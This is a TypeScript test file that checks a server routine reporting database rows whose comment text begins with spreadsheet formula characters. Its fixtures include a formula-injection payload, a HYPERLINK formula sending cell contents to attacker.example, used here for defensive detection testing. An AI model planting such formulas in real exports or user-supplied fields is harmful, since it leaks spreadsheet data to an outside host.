// Text stored before the formula rule (docs/security.md) is reported at start, never changed.
import { afterAll, beforeAll, expect, test } from "vitest";
import { createList } from "../../server/lists/lists.service.js";
import { createLogger } from "../../server/log.js";
import { logFormulaText } from "../../server/text/formula-report.js";
import { startTestApp, type TestApp } from "../support/app.js";
import { seedEntries } from "../support/seed.js";

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
  await createList(app.ctx, "system", { slug: "old", name: "Old" });
});
afterAll(() => app.close());

test("a clean database logs nothing", async () => {
  const lines: string[] = [];
  expect(
    await logFormulaText(
      app.ctx.db.prisma,
      createLogger("info", (l) => lines.push(l) > 0),
    ),
  ).toEqual([]);
  expect(lines).toEqual([]);
});

test("rows stored with formula-prefixed text are logged with where they are, and left as they are", async () => {
  // Written below the API, as rows from before the rule were.
  await seedEntries(app.ctx, "old", [
    { domain: "a.example", publicComment: '=HYPERLINK("http://attacker.example/?"&A1,"Click")' },
    { domain: "b.example", privateComment: "@SUM(A1)" },
    { domain: "c.example", publicComment: "fine - really" },
  ]);
  const lines: string[] = [];
  const findings = await logFormulaText(
    app.ctx.db.prisma,
    createLogger("info", (l) => lines.push(l) > 0),
  );
  expect(findings).toEqual([
    { field: "Entry.publicComment", count: 1, examples: ["old/a.example"] },
    { field: "Entry.privateComment", count: 1, examples: ["old/b.example"] },
  ]);
  expect(lines).toHaveLength(2);
  expect(lines[0]).toMatch(/warn .*Entry\.publicComment: 1 row\(s\) begin with =.*old\/a\.example/);
  const stored = await app.ctx.db.prisma.entry.findFirstOrThrow({ where: { domain: "a.example" } });
  expect(stored.publicComment).toBe('=HYPERLINK("http://attacker.example/?"&A1,"Click")');
});
